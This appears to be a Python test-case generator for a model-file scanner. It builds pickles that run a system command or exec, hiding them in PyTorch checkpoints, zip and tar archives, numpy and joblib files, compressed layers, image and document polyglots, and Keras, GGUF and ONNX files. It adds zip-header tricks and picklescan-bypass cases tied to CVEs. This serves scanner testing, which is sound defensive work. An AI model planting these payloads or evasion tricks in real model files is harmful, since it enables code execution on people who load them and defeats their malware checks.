"""Hostile files by what they are wrapped in: archives, model formats, names that mislead."""
import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import struct
import tarfile
import zlib

from asm import CODE, COMMAND, Op, build, call, evil, g, glob, new, p4, proto, push, system
from hostile_calls import npy_object, push_dict2
from zips import Member, torch_zip, zip_bytes

ISSUE = "issue 3: containers"
HERE = os.path.dirname(os.path.abspath(__file__))


def payloads():
    """A few of different make, for the wrappers."""
    return [
        ("reduce", evil()),
        ("global4", p4(call("builtins:exec", CODE))),
        ("planted", p4(Op(build(new("argparse:Namespace"), {"append": g("os:system")}) +
                          push(COMMAND) + b"a"))),
        ("protocol0", b"cposix\nsystem\n(V" + COMMAND.encode() + b"\ntR."),
        ("broken", b"\x80\x02" + system() + b"\xff\xff"),
    ]


def benign():
    return p4(push({"weight": [1.0, 2.0], "name": "benign"}))


def rows(case):
    extensions(case)
    torch_zips(case)
    torch_old(case)
    zips(case)
    arrays(case)
    joblibs(case)
    archives(case)
    polyglots(case)
    formats(case)
    made_elsewhere(case)


def extensions(case):
    ref = "CVE-2025-1889, CVE-2025-10155: judged by extension"
    exts = ["", ".txt", ".png", ".safetensors", ".json", ".bin", ".pt", ".pth", ".ckpt", ".npy",
            ".h5", ".onnx", ".gguf", ".csv", ".md", ".py", ".zip", ".dat", ".joblib", ".model",
            ".PKL", ".tar.gz", ".yaml", ".html", ".xml"]
    for i, ext in enumerate(exts):
        name, data = payloads()[i % 5]
        case("extension%s-%s" % (ext.replace(".", "-"), name), "extensions", ref, data, ext=ext)


def torch_zips(case):
    t = "torch zip"
    for name, data in payloads():
        case(name, t, "PyTorch zip checkpoint", torch_zip(data), ext=".pt", load="unpack")
    data = evil()
    j = "JFrog: CVE-2025-10156"
    case("real-load", t, "PyTorch zip checkpoint", torch_zip(tensor_then(data)), ext=".pt",
         needs="torch", load="torch")
    case("in-state-dict", t, "payload as a value of a state dict", torch_zip(p4(push({
        "weight": Op(system()), "bias": 1}))), ext=".pth", load="unpack")
    case("persistent-id-argument", t, "payload inside a persistent id", torch_zip(proto(
        2, b"(X\x07\0\0\0storage" + system() + b"X\x01\0\0\x000X\x03\0\0\0cpuK\x04tQ")),
        ext=".pt", load="unpack", fires=True)
    for member in ("constants.pkl", "extra/x.pkl", "code/__torch__.py.pkl", "data/0",
                   "attributes.pkl", ".data/serialization_id", "version", "byteorder", "x.txt"):
        case("member-" + member.replace("/", "-").strip("."), t, "every member is looked at",
             torch_zip(benign(), extra=[Member("archive/" + member, data)]), ext=".pt",
             load="unpack")
    case("storage-is-a-pickle", t, "data/0 holds a pickle", zip_bytes([
        Member("archive/data.pkl", benign()), Member("archive/data/0", data),
        Member("archive/version", b"3\n")]), ext=".pt", load="unpack")
    case("duplicate-bad-first", t, "two members of one name", torch_zip(data, extra=[
        Member("archive/data.pkl", benign())]), ext=".pt", load="unpack")
    case("duplicate-bad-last", t, "two members of one name", torch_zip(benign(), extra=[
        Member("archive/data.pkl", data)]), ext=".pt", load="unpack")
    case("duplicate-case", t, "names that differ in case", torch_zip(benign(), extra=[
        Member("archive/DATA.PKL", data)]), ext=".pt", load="unpack")
    case("two-folders", t, "two archives in one", torch_zip(benign(), extra=[
        Member("other/data.pkl", data)]), ext=".pt", load="unpack")
    case("encrypted-flag", t, "CVE-2025-1945: torch ignores the flag", zip_bytes([
        Member("archive/data.pkl", data, flags=1), Member("archive/version", b"3\n")]), ext=".pt",
        load="torch", needs="torch", fires=False)
    for bit in (0, 5, 6, 13):
        case("flag-bit-%d" % bit, t, "CVE-2025-1945", zip_bytes([
            Member("archive/data.pkl", tensor_then(data), flags=1 << bit),
            Member("archive/version", b"3\n"), Member("archive/byteorder", b"little")]),
            ext=".pt", load="torch", needs="torch", fires="no effect to see")
    case("flag-central-only", t, "CVE-2025-1945", zip_bytes([
        Member("archive/data.pkl", data, central={"flags": 1}), Member("archive/version",
                                                                       b"3\n")]),
        ext=".pt", load="torch", needs="torch", fires="no effect to see")
    case("flag-local-only", t, "CVE-2025-1945", zip_bytes([
        Member("archive/data.pkl", data, local={"flags": 1}), Member("archive/version",
                                                                     b"3\n")]),
        ext=".pt", load="torch", needs="torch", fires="no effect to see")
    case("wrong-crc", t, j, zip_bytes([Member("archive/data.pkl", data, crc=1), Member(
        "archive/version", b"3\n")]), ext=".pt", load="torch", needs="torch",
        fires="no effect to see")
    case("zero-crc", t, j, zip_bytes([Member("archive/data.pkl", data, crc=0), Member(
        "archive/version", b"3\n")]), ext=".pt", load="torch", needs="torch",
        fires="no effect to see")
    case("wrong-crc-central", t, j, zip_bytes([Member("archive/data.pkl", data, central={
        "crc": 7}), Member("archive/version", b"3\n")]), ext=".pt", load="torch", needs="torch",
        fires="no effect to see")
    case("local-name-differs", t, "CVE-2025-1944", zip_bytes([Member(
        "archive/data.pkl", data, local={"name": b"archive/datap.kl"}), Member(
            "archive/version", b"3\n")]), ext=".pt", load="torch", needs="torch",
        fires="no effect to see")
    case("central-name-differs", t, "CVE-2025-1944", zip_bytes([Member(
        "archive/data.pkl", data, central={"name": b"archive/data.txt"}), Member(
            "archive/version", b"3\n")]), ext=".pt", load="unpack",
        fires="no effect to see")
    case("local-only-member", t, "hidden from the directory", zip_bytes([
        Member("archive/data.pkl", benign()), Member("archive/evil.pkl", data,
                                                     in_central=False),
        Member("archive/version", b"3\n")]), ext=".pt", load="pickle-offset")
    case("deflated", t, "compressed member", zip_bytes([Member("archive/data.pkl", data, 8)]),
         ext=".pt", load="unpack")
    case("legacy-name-bin", t, "pytorch_model.bin", torch_zip(data), ext=".bin", load="unpack")
    case("torchscript-code", t, "TorchScript with a pickle payload", torch_zip(benign(), extra=[
        Member("archive/code/__torch__.py", b"def forward(self): pass\n"),
        Member("archive/constants.pkl", data)]), ext=".pt", load="unpack")
    case("pickle-in-tensor-body", t, "a storage shaped like a pickle archive", torch_zip(
        benign(), extra=[Member("archive/data/9", torch_zip(data))]), ext=".pt", load="unpack")


def tensor_then(data):
    return data


def torch_old(case):
    t = "torch legacy"
    magic = proto(2, push(0x1950a86a20f9469cfc6c))
    version = proto(2, push(1001))
    info = proto(2, push_dict2({"protocol_version": 1001, "little_endian": True,
                                "type_sizes": {"short": 2, "int": 4, "long": 4}}))
    good, keys, bad = proto(2, b"}"), proto(2, b"]"), evil()
    t_ = dict(ext=".pth", needs="torch", load="torch")
    for name, data in payloads():
        case("object-" + name, t, ISSUE, magic + version + info + data + keys,
             fires=name != "broken" or True, **t_)
    case("in-sys-info", t, ISSUE, magic + version + bad + good + keys, **t_)
    case("in-sys-info-value", t, ISSUE, magic + version + proto(2, b"}X\x11\0\0\0" +
         b"protocol_version " + system() + b"s") + good + keys, **t_)
    case("in-protocol-version", t, ISSUE, magic + bad + info + good + keys, **t_)
    case("in-magic", t, ISSUE, bad + version + info + good + keys, **t_)
    case("magic-computed", t, "JFrog: picklescan pytorch_magic_bypass", proto(
        2, system() + b"0" + push(0x1950a86a20f9469cfc6c)) + version + info + good + keys, **t_)
    case("magic-by-call", t, "picklescan pytorch_magic_bypass", proto(2, glob(
        "__builtin__", "eval") + b"X\x20\0\0\0" + b"0x1950a86a20f9469cfc6c          " + b"\x85R")
        + version + info + bad + keys, **t_)
    case("in-storage-keys", t, ISSUE, magic + version + info + good + bad, **t_)
    case("keys-item", t, ISSUE, magic + version + info + good + proto(2, b"]" + system() + b"a"),
         **t_)
    case("after-storages", t, ISSUE, magic + version + info + good + keys + b"\0" * 24 + bad,
         ext=".pth", load="pickle-offset")
    case("benign-magic-only", t, "magic then a payload", magic + bad, **t_)
    case("persistent-id", t, "payload inside the persistent id", magic + version + info + proto(
        2, b"(X\x06\0\0\0module" + system() + b"X\x01\0\0\0aX\x01\0\0\0btQ") + keys, **t_)
    case("tar-form", t, "torch before 0.1.10 wrote a tar", tar_of([
        ("storages", proto(2, push(0))), ("tensors", proto(2, push(0))), ("pickle", bad)]),
        ext=".pth", needs="torch", load="torch", fires="no effect to see")
    case("tar-form-storages", t, "torch before 0.1.10 wrote a tar", tar_of([
        ("storages", bad), ("tensors", proto(2, push(0))), ("pickle", good)]), ext=".pth",
        needs="torch", load="torch", fires="no effect to see")


def zips(case):
    t, bad = "zip", evil()
    pkl = Member("model.pkl", bad)
    for name, data in payloads():
        case("member-" + name, t, ISSUE, zip_bytes([Member("model.pkl", data)]), ext=".zip",
             load="unpack")
    case("deflated-no-extension", t, ISSUE, zip_bytes([Member("model", bad, 8)]), ext=".zip",
         load="unpack")
    case("wrong-member-extension", t, "picklescan malicious1_wrong_ext",
         zip_bytes([Member("data.txt", bad, 8)]), ext=".zip", load="unpack")
    case("prefix", t, "zip with bytes before", zip_bytes([pkl], prefix=b"#!/bin/sh\nexit\n"),
         ext=".zip", load="unpack")
    case("prefix-counted", t, "zip with bytes before", zip_bytes([pkl], prefix=b"MZ" + b"\0" * 62,
                                                                shift=64), ext=".zip",
         load="unpack")
    case("comment-holds-pickle", t, "archive comment", zip_bytes([Member("a.txt", b"hello")],
                                                                comment=bad), ext=".zip",
         load="pickle-offset",
         hold_ok=True)
    case("between-members-and-directory", t, "bytes no header names", zip_bytes([
        Member("a.txt", b"hello")], between=bad), ext=".zip", load="pickle-offset")
    case("after-the-end", t, "bytes after the end", zip_bytes([Member("a.txt", b"hello")],
                                                             after=bad), ext=".zip",
         load="pickle-offset")
    inner = zip_bytes([pkl])
    for depth in range(4):
        inner = zip_bytes([Member("inner.zip", inner, 8)])
    case("five-deep", t, "zip in zip, five times", inner, ext=".zip", load="unpack")
    deep = zip_bytes([pkl])
    for depth in range(30):
        deep = zip_bytes([Member("i", deep)])
    case("thirty-deep", t, "deeper than any bound", deep, ext=".zip", fires="no effect to see",
         load="unpack")
    case("uppercase", t, ISSUE, zip_bytes([Member("DATA.PKL", bad)]), ext=".ZIP", load="unpack")
    case("traversal-name", t, ISSUE, zip_bytes([Member("../../evil.pkl", bad)]), ext=".zip",
         load="unpack")
    case("directory-that-holds-data", t, "a name that ends in a slash", zip_bytes([
        Member("folder/", bad)]), ext=".zip", load="unpack")
    case("nul-in-name", t, ISSUE, zip_bytes([Member(b"a.txt\0.pkl", bad)]), ext=".zip",
         load="unpack")
    case("overlap", t, "two names, one body", zip_bytes([Member("a.pkl", bad), Member(
        "b.txt", b"x", central={"offset": 0})]), ext=".zip", load="unpack")
    case("size-lies-small", t, "sizes differ between headers", zip_bytes([Member(
        "a.pkl", bad, local={"csize": 3, "usize": 3})]), ext=".zip", load="unpack")
    case("size-lies-central", t, "sizes differ between headers", zip_bytes([Member(
        "a.pkl", bad, central={"csize": 3, "usize": 3})]), ext=".zip", load="pickle-offset")
    case("count-lies", t, "directory counts fewer", zip_bytes([Member("a.txt", b"hi"), pkl],
                                                             count=1), ext=".zip",
         load="pickle-offset")
    case("method-lies", t, "deflate said, stored meant", zip_bytes([Member(
        "a.pkl", bad, local={"method": 8})]), ext=".zip", load="unpack")
    case("unknown-method", t, "a method nobody reads", zip_bytes([Member(
        "a.pkl", bad, local={"method": 99}, central={"method": 99})]), ext=".zip",
        load="pickle-offset")
    case("data-descriptor", t, "sizes after the data", zip_bytes([Member(
        "a.pkl", bad, flags=8, local={"crc": 0, "csize": 0, "usize": 0})]), ext=".zip",
        load="unpack")
    z64 = struct.pack("<HHQQ", 1, 16, len(bad), len(bad))
    case("zip64", t, "zip64 sizes", zip_bytes([Member("a.pkl", bad, extra=z64, local={
        "csize": 0xffffffff, "usize": 0xffffffff}, central={
            "csize": 0xffffffff, "usize": 0xffffffff})]), ext=".zip", load="unpack")
    lie = struct.pack("<HHQQ", 1, 16, 3, 3)
    case("zip64-lies", t, "zip64 sizes that are not used", zip_bytes([Member(
        "a.pkl", bad, extra=lie)]), ext=".zip", load="unpack")
    case("two-directories", t, "two ends", zip_bytes([Member("a.txt", b"x")]) + zip_bytes(
        [pkl]), ext=".zip", load="unpack")
    case("two-directories-bad-first", t, "two ends", zip_bytes([pkl]) + zip_bytes(
        [Member("a.txt", b"x")]), ext=".zip", load="pickle-offset")
    case("end-in-comment", t, "an end record inside the comment", zip_bytes([
        Member("a.txt", b"x")], comment=zip_bytes([pkl])), ext=".zip", load="unpack")
    case("no-directory", t, "local headers alone", zip_bytes([Member(
        "a.pkl", bad, in_central=False)]), ext=".zip", load="pickle-offset")
    case("directory-cut", t, "cut in the directory", zip_bytes([pkl])[:-30], ext=".zip",
         load="pickle-offset")
    case("encrypted-flag-plain", t, "CVE-2025-1945", zip_bytes([Member(
        "a.pkl", bad, flags=1)]), ext=".zip", load="pickle-offset")
    case("wheel", t, "a wheel holds a pickle", zip_bytes([
        Member("p/__init__.py", b""), Member("p/model.pkl", bad, 8),
        Member("p-1.dist-info/METADATA", b"Metadata-Version: 2.1\nName: p\nVersion: 1\n"),
        Member("p-1.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
        Member("p-1.dist-info/RECORD", b"")]), ext=".whl", load="unpack")
    case("bomb-then-pickle", t, "a bomb before the payload", zip_bytes([
        Member("zeros", b"\0" * (1 << 20), 8), Member("a.pkl", bad)]), ext=".zip",
        load="unpack")
    case("pickle-before-zip", t, "pickle, then a benign zip", bad + zip_bytes([Member(
        "a.txt", b"x")]), ext=".pkl")
    case("pickle-before-torch-zip", t, "pickle, then a benign torch zip", bad + torch_zip(
        benign()), ext=".pt")
    case("benign-zip-then-pickle", t, "zip, then a pickle", torch_zip(benign()) + bad, ext=".pt",
         load="pickle-offset")


def arrays(case):
    t = "numpy files"
    n = dict(needs="numpy", load="numpy")
    for name, data in payloads():
        case("npy-object-" + name, t, "CVE-2019-6446; picklescan dns_exfiltration",
             npy_object(data), ext=".npy", **n)
    bad = evil()
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (2,), }"
    plain = b"\x93NUMPY\x01\x00" + struct.pack("<H", 118) + (header.ljust(117) + "\n").encode()
    case("npz-object", t, "CVE-2019-6446", zip_bytes([Member("a.npy", npy_object(bad), 8)]),
         ext=".npz", **n)
    case("npz-second-member", t, "CVE-2019-6446", zip_bytes([
        Member("a.npy", plain + b"\0" * 16), Member("b.npy", npy_object(bad))]), ext=".npz", **n)
    case("npz-pkl-member", t, "a pickle among arrays", zip_bytes([
        Member("a.npy", plain + b"\0" * 16), Member("b.pkl", bad)]), ext=".npz", load="unpack")
    case("npy-trailing-pickle", t, "bytes after the array", plain + b"\0" * 16 + bad, ext=".npy",
         load="pickle-offset")
    case("npy-version-2", t, "header version 2", b"\x93NUMPY\x02\x00" + struct.pack(
        "<I", 116) + ("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(115) +
                      "\n").encode() + bad, ext=".npy", **n)
    case("npy-version-3", t, "header version 3", b"\x93NUMPY\x03\x00" + struct.pack(
        "<I", 116) + ("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(115) +
                      "\n").encode() + bad, ext=".npy", **n)
    case("npy-structured-object", t, "an object field in a record", npy_header(
        "{'descr': [('a', '<i4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }") + bad,
        ext=".npy", **n)
    case("npy-nested-object", t, "an object field in a nested record", npy_header(
        "{'descr': [('a', [('b', '|O')])], 'fortran_order': False, 'shape': (1,), }") + bad,
        ext=".npy", **n)
    case("npy-descr-o8", t, "the same type by another name", npy_header(
        "{'descr': 'O8', 'fortran_order': False, 'shape': (1,), }") + bad, ext=".npy", **n)
    case("npy-descr-object", t, "the same type by another name", npy_header(
        "{'descr': 'object', 'fortran_order': False, 'shape': (1,), }") + bad, ext=".npy", **n)
    case("npy-header-keys-shuffled", t, "header order and quoting", npy_header(
        '{"shape":(1,),"fortran_order":True,"descr":"|O"}') + bad, ext=".npy",
        fires="no effect to see", **n)
    case("npy-header-comment", t, "a comment in the header's literal", npy_header(
        "{'descr': '|O', 'fortran_order': False, 'shape': (1,), } # '<f8'") + bad, ext=".npy",
        fires="no effect to see", **n)
    case("npy-header-escape", t, "escapes in the header's literal", npy_header(
        "{'descr': '\\x7cO', 'fortran_order': False, 'shape': (1,), }") + bad, ext=".npy", **n)
    case("npy-header-concat", t, "joined strings in the header's literal", npy_header(
        "{'descr': '|' 'O', 'fortran_order': False, 'shape': (1,), }") + bad, ext=".npy", **n)
    case("npy-header-duplicate-key", t, "the last of two keys counts", npy_header(
        "{'descr': '<f8', 'descr': '|O', 'fortran_order': False, 'shape': (1,), }") + bad,
        ext=".npy", **n)
    case("npy-is-a-plain-pickle", t, "numpy.load reads pickles too", bad, ext=".npy", **n)
    case("npy-shape-zero-object", t, "an object array of nothing", npy_header(
        "{'descr': '|O', 'fortran_order': False, 'shape': (0,), }") + bad, ext=".npy", **n)


def npy_header(text):
    text += " " * (-(len(text) + 11) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode()


def joblibs(case):
    t, bad = "joblib", evil()
    j = dict(needs="joblib", load="joblib")
    ref = "CVE-2020-13092, CVE-2024-34997"
    case("raw", t, ref, bad, ext=".joblib", **j)
    case("zlib", t, ref, zlib.compress(bad), ext=".joblib", **j)
    case("gzip", t, ref, gzip.compress(bad, mtime=0), ext=".joblib", **j)
    case("bz2", t, ref, bz2.compress(bad), ext=".joblib", **j)
    case("xz", t, ref, lzma.compress(bad), ext=".joblib", **j)
    case("lzma", t, ref, lzma.compress(bad, format=lzma.FORMAT_ALONE), ext=".joblib", **j)
    case("zlib-default-level", t, ref, zlib.compress(bad, 3), ext=".joblib", **j)
    case("gzip-two-members", t, "members one after the other", gzip.compress(
        bad[:20], mtime=0) + gzip.compress(bad[20:], mtime=0), ext=".joblib", load="unpack")
    case("zlib-no-extension", t, ref, zlib.compress(p4(call("builtins:exec", CODE))), ext="",
         **j)
    wrapper = array_wrapper("<f8", 4)
    body = b"\x08" + b"\xff" * 8 + struct.pack("<4d", 1, 2, 3, 4)
    head = b"\x80\x04}\x94\x8c\x01a"
    tail = b"s0" + bytes(system()) + b"."
    case("payload-after-array", t, "joblib's inlined arrays are skipped exactly",
         head + wrapper + body + tail, ext=".joblib", **j)
    case("payload-after-array-no-padding", t, "older wrapper without padding",
         head + array_wrapper("<f8", 4, False) + body[9:] + tail, ext=".joblib", **j)
    case("array-body-looks-like-pickle", t, "an array of pickle bytes, then a payload",
         head + array_wrapper("|u1", 16, False) + b"\x80\x04N.\x80\x04N." * 2 + tail,
         ext=".joblib", **j)
    case("array-size-lies", t, "an array longer than the file", head + array_wrapper(
        "<f8", 1 << 40) + body + tail, ext=".joblib", fires=False, **j)
    case("array-hides-payload", t, "a reader without joblib sees opcodes in the array",
         b"\x80\x04" + array_wrapper("|u1", len(tail), False) + tail + b"0" +
         bytes(system()) + b".", ext=".joblib", **j)
    case("array-shape-zero", t, "an array of nothing, then a payload",
         head + array_wrapper("<f8", 0, False) + tail, ext=".joblib", **j)
    case("array-shape-negative", t, "a negative length", head + array_wrapper("<f8", -1, False) +
         tail, ext=".joblib", fires="no effect to see", **j)
    case("object-array", t, "an object array is one more pickle", b"\x80\x04" + array_wrapper(
        "O8", 1) + bad + b".", ext=".joblib", **j)
    case("object-array-zlib", t, "an object array is one more pickle", zlib.compress(
        b"\x80\x04" + array_wrapper("O8", 1) + bad + b"."), ext=".joblib", **j)
    case("structured-object-array", t, "object fields in the wrapper's dtype",
         b"\x80\x04" + bytes(build(new("joblib.numpy_pickle:NumpyArrayWrapper"), {
             "subclass": g("numpy:ndarray"), "shape": (1,), "order": "C",
             "dtype": call("numpy:dtype", [("a", "O")]), "allow_mmap": False})) + bad + b".",
         ext=".joblib", **j)
    case("wrapper-subclass", t, "the wrapper calls its subclass",
         b"\x80\x04" + array_wrapper("<f8", 4, False, sub="posix:system") +
         body[9:] + b".", ext=".joblib", fires="no effect to see", **j)
    case("old-zfile", t, "joblib before 0.10: ZF", b"ZF0x" + b"%-15x" % len(bad) +
         zlib.compress(bad), ext=".joblib", needs="joblib", load="joblib",
         fires="no effect to see")
    case("lz4-cut", t, "an lz4 frame that ends early", base64.b64decode(
        b"BCJNGGRApw=="), ext=".joblib", fires=False)


def array_wrapper(descr, n, padded=True, sub="numpy:ndarray"):
    code = descr.lstrip("<|")
    kind = descr[0] if descr[0] in "<|" else "|"
    flags = 63 if code[0] == "O" else 0
    dt = build(call("numpy:dtype", code, False, True),
               (3, kind, None, None, None, -1, -1, flags))
    state = {"subclass": g(sub), "shape": (n,), "order": "C", "dtype": dt, "allow_mmap": False}
    if padded:
        state["numpy_array_alignment_bytes"] = 16 if code[0] != "O" else None
    return bytes(build(new("joblib.numpy_pickle:NumpyArrayWrapper"), state))


def tar_of(members, fmt=tarfile.USTAR_FORMAT):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=fmt) as t:
        for name, data in members:
            i = tarfile.TarInfo(name)
            i.size = len(data)
            t.addfile(i, io.BytesIO(data))
    return out.getvalue()


def archives(case):
    t, bad = "archives", evil()
    u = dict(load="unpack")
    tar = tar_of([("readme.txt", b"hello\n"), ("model.pkl", bad)])
    case("tar", t, ISSUE, tar, ext=".tar", **u)
    case("tar-gz", t, ISSUE, gzip.compress(tar, mtime=0), ext=".tar.gz", **u)
    case("tar-bz2", t, ISSUE, bz2.compress(tar), ext=".tar.bz2", **u)
    case("tar-xz", t, ISSUE, lzma.compress(tar), ext=".tar.xz", **u)
    case("tar-no-extension", t, ISSUE, tar_of([("model", bad)]), ext="", **u)
    case("tar-gnu-long-name", t, ISSUE, tar_of([("a/" * 120 + "model", bad)],
                                              tarfile.GNU_FORMAT), ext=".tar", **u)
    case("tar-pax-long-name", t, ISSUE, tar_of([("\u00e9/" * 120 + "model", bad)],
                                              tarfile.PAX_FORMAT), ext=".tar", **u)
    case("tar-trailing", t, "bytes after the end blocks", tar_of([("a.txt", b"x")]) + bad,
         ext=".tar", load="pickle-offset")
    case("tar-two-archives", t, "a second archive after the end blocks", tar_of([
        ("a.txt", b"x")]) + tar_of([("b.pkl", bad)]), ext=".tar", load="pickle-offset")
    case("tar-in-slack", t, "bytes in the padding of a member", slack(bad), ext=".tar",
         load="pickle-offset", hold_ok=True)
    case("tar-in-zip", t, ISSUE, zip_bytes([Member("a.tar", tar, 8)]), ext=".zip", **u)
    case("zip-in-tar-gz", t, ISSUE, gzip.compress(tar_of([("a.zip", zip_bytes([
        Member("m.pkl", bad, 8)]))]), mtime=0), ext=".tgz", **u)
    case("gzip-in-gzip", t, ISSUE, gzip.compress(gzip.compress(bad, mtime=0), mtime=0),
         ext=".gz", **u)
    case("gzip-pkl", t, ISSUE, gzip.compress(bad, mtime=0), ext=".pkl.gz", load="pandas",
         needs="pandas")
    case("bz2-pkl", t, ISSUE, bz2.compress(bad), ext=".pkl.bz2", load="pandas", needs="pandas")
    case("xz-pkl", t, ISSUE, lzma.compress(bad), ext=".pkl.xz", load="pandas", needs="pandas")
    case("zip-pkl", t, ISSUE, zip_bytes([Member("x", bad, 8)]), ext=".pkl.zip", load="pandas",
         needs="pandas")
    case("gzip-trailing", t, "bytes after the gzip member", gzip.compress(b"x", mtime=0) + bad,
         ext=".gz", load="pickle-offset")
    case("gzip-extra-field", t, "a pickle in the header's extra field", gzip_extra(bad),
         ext=".gz", load="pickle-offset", hold_ok=True)
    case("gzip-cut", t, "cut before the checksum", gzip.compress(bad, mtime=0)[:-6], ext=".gz",
         fires="no effect to see")
    case("zlib-then-bz2-then-xz", t, "three layers", lzma.compress(bz2.compress(zlib.compress(
        bad))), ext=".bin", **u)
    case("sdist", t, "an sdist holds a pickle", gzip.compress(tar_of([
        ("p-1/PKG-INFO", b"Metadata-Version: 2.1\nName: p\nVersion: 1\n"),
        ("p-1/p/data.pkl", bad)]), mtime=0), ext=".tar.gz", **u)
    case("base64-text", t, "a text file of base64", base64.encodebytes(bad), ext=".b64",
         fires="no effect to see", hold_ok=True, want=("refuse", "undecided", "admit"))


def slack(bad):
    t = bytearray(tar_of([("a.txt", b"x"), ("b.txt", b"y")]))
    t[512 + 8:512 + 8 + len(bad)] = bad
    return bytes(t)


def gzip_extra(bad):
    z = gzip.compress(b"hello", mtime=0)
    return z[:3] + b"\x04" + z[4:10] + struct.pack("<H", len(bad)) + bad + z[10:]


def polyglots(case):
    t, bad = "polyglots", evil()
    png = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPj/"
                           "HwADBwIAMCbHYQAAAABJRU5ErkJggg==")
    off = dict(load="pickle-offset")
    case("png-then-pickle", t, "an image with a pickle behind", png + bad, ext=".png", **off)
    case("jpeg-then-pickle", t, "an image with a pickle behind", b"\xff\xd8\xff\xe0\x00\x10JFIF"
         b"\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9" + bad, ext=".jpg", **off)
    case("gif-then-pickle", t, "an image with a pickle behind", b"GIF89a\x01\x00\x01\x00\x80"
         b"\x00\x00\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;" + bad, ext=".gif",
         **off)
    case("pdf-then-pickle", t, "a document with a pickle behind", b"%PDF-1.4\n%%EOF\n" + bad,
         ext=".pdf", **off)
    case("elf-then-pickle", t, "a program with a pickle behind", b"\x7fELF\x02\x01\x01" + b"\0" *
         57 + bad, ext=".so", **off)
    case("wav-then-pickle", t, "a sound with a pickle behind", b"RIFF$\0\0\0WAVEfmt \x10\0\0\0"
         b"\x01\0\x01\0D\xac\0\0\x88X\x01\0\x02\0\x10\0data\0\0\0\0" + bad, ext=".wav", **off)
    st = json.dumps({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    case("safetensors-then-pickle", t, "bytes after the last tensor", struct.pack(
        "<Q", len(st)) + st + b"\0" * 4 + bad, ext=".safetensors", **off)
    case("safetensors-metadata", t, "a pickle in the data that no tensor names", struct.pack(
        "<Q", len(st)) + st + b"\0" * 4 + torch_zip(bad), ext=".safetensors", load="unpack")
    case("pickle-and-zip", t, "both at once", bad + zip_bytes([Member("m.pkl", bad)]),
         ext=".pkl")
    case("pickle-and-benign-zip-wrong-offsets", t, "offsets count from the file's start",
         bad + zip_bytes([Member("a.txt", b"x")], shift=len(bad)), ext=".zip")
    case("zip-inside-pickle-string", t, "a pickle whose bytes are a zip of a pickle",
         p4(push(zip_bytes([Member("m.pkl", bad)]))), ext=".pkl", load="unpack", hold_ok=True,
         fires="no effect to see")
    case("pickle-inside-pickle-bytes", t, "a pickle as bytes, never loaded", p4(push(bad)),
         ext=".pkl", fires="no effect to see", hold_ok=True,
         want=("refuse", "undecided", "admit"))
    case("npy-and-zip", t, "npy then zip", npy_object(bad) + zip_bytes([Member("a", b"x")]),
         ext=".npy", needs="numpy", load="numpy")
    case("text-then-pickle", t, "text with a pickle behind", b"# weights\n" * 50 + bad,
         ext=".txt", **off)
    case("json-then-pickle", t, "JSON with a pickle behind", b'{"a": 1}\n' + bad, ext=".json",
         **off)
    case("script-then-pickle", t, "a script with a pickle behind", b"#!/usr/bin/env python\n" +
         b"import pickle\n" + b"\x00" + bad, ext=".py", **off)
    case("unknown-then-pickle", t, "unknown bytes with a pickle behind", bytes(range(200, 256)) *
         8 + bad, ext=".bin", **off)
    case("offset-4096", t, "at a page's offset in zeros", b"\0" * 4096 + bad, ext=".img", **off)
    case("gguf-then-pickle", t, "a model with a pickle behind", b"GGUF\x03\0\0\0" + b"\0" * 16 +
         bad, ext=".gguf", **off)
    case("sqlite-then-pickle", t, "a database with a pickle in it", b"SQLite format 3\0" + b"\0" *
         84 + bad, ext=".db", **off)
    case("parquet-wrapped", t, "unknown container", b"PAR1" + bad + b"PAR1", ext=".parquet",
         **off)


def pb(field, data):
    return bytes([field << 3 | 2, len(data)]) + data


def formats(case):
    t = "formats not read yet"
    lambda_config = json.dumps({"module": "keras.layers", "class_name": "Lambda", "config": {
        "function": {"class_name": "__lambda__", "config": {"code": base64.b64encode(
            marshal.dumps(compile("0", "x", "eval"))).decode()}}}}).encode()
    none = dict(fires=False)
    case("keras-v3", t, "CVE-2025-1550, CVE-2024-3660", zip_bytes([
        Member("metadata.json", b'{"keras_version": "3.3.3"}'),
        Member("config.json", lambda_config), Member("model.weights.h5", hdf5())]),
        ext=".keras", **none)
    case("keras-v3-any-name", t, "CVE-2025-1550", zip_bytes([
        Member("config.json", lambda_config), Member("metadata.json", b"{}"),
        Member("model.weights.h5", hdf5())]), ext=".zip", **none)
    case("keras-h5", t, "GHSA-36rr-ww3j-vrjv", hdf5(b"model_config" + lambda_config), ext=".h5",
         **none)
    case("hdf5-no-extension", t, "content decides", hdf5(), ext="", **none)
    case("hdf5-user-block", t, "an HDF5 signature at offset 512", b"\0" * 512 + hdf5(), ext="",
         **none)
    case("hdf5-after-text", t, "an HDF5 signature at offset 1024", b"hello\n".ljust(1024, b" ") +
         hdf5(), ext=".txt", **none)
    case("gguf", t, "Jinja template in metadata: CVE-2024-34359", b"GGUF\x03\0\0\0" +
         struct.pack("<QQ", 0, 1) + struct.pack("<Q", 23) + b"tokenizer.chat_template" +
         struct.pack("<IQ", 8, 13) + b"{{ x.__y__ }}", ext=".gguf", **none)
    case("gguf-no-extension", t, "content decides", b"GGUF\x03\0\0\0" + b"\0" * 15, ext="",
         **none)
    case("ggml", t, "older llama.cpp form", b"lmgg" + b"\0" * 32, ext=".bin", **none)
    onnx = pb(2, b"pytorch") + pb(3, b"2.0") + pb(7, pb(2, b"g") + pb(1, pb(4, b"PyOp")
                                                                       + pb(7, b"ai.onnx.contrib")))
    case("onnx", t, "an operator that runs Python", b"\x08\x08" + onnx + pb(8, b"\x10\x0d"),
         ext=".onnx", **none)
    case("onnx-no-extension", t, "content decides", b"\x08\x08" + onnx + pb(8, b"\x10\x0d"),
         ext="", **none)
